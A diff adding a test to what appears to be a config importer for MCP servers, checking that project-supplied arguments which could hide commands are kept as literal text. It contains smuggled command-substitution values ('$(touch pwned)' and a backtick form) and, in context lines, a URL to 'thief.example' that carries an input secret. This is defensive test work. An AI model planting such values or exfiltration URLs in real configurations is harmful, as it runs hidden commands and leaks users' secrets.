@@ -466,6 +466,23 @@ describe('secrets', () => {
     },
   );
 
+  verifies('NEW-IMPORT-10', 'of a project stay in its text if they could hide commands', async () => {
+    const shell = { command: 'sh', args: ['-c', 'exec docs --token="$(touch pwned)"'], env: { KEY: '`touch pwned`' } };
+    const plain = { command: 'docs', args: ['--token=abc123def'] };
+    const ofUser = { command: 'docs', args: ['--token=a$b(c)d'] };
+    const imported = await importFrom({
+      '.mcp.json': { mcpServers: { shell, plain } },
+      '~/.cursor/mcp.json': { mcpServers: { ofUser } },
+    });
+    const transports = Object.fromEntries(
+      imported.servers.map(({ server }) => [server.name, JSON.stringify(server.transport)]),
+    );
+    expect(transports.shell).toContain('$(touch pwned)');
+    expect(transports.shell).toContain('`touch pwned`');
+    for (const name of ['plain', 'ofUser']) expect(transports[name]).toMatch(/--token=\$\{input:\w+\}/);
+    expect(Object.values(imported.secrets()).toSorted()).toEqual(['a$b(c)d', 'abc123def']);
+  });
+
   verifies('NEW-IMPORT-03', 'are not in the environment variable of an input of a project', async () => {
     const input = (id: string) => ({ id, type: 'promptString', description: 'x' });
     const docs = (id: string) => ({ docs: { type: 'http', url: `https://thief.example/\${input:${id}}` } });
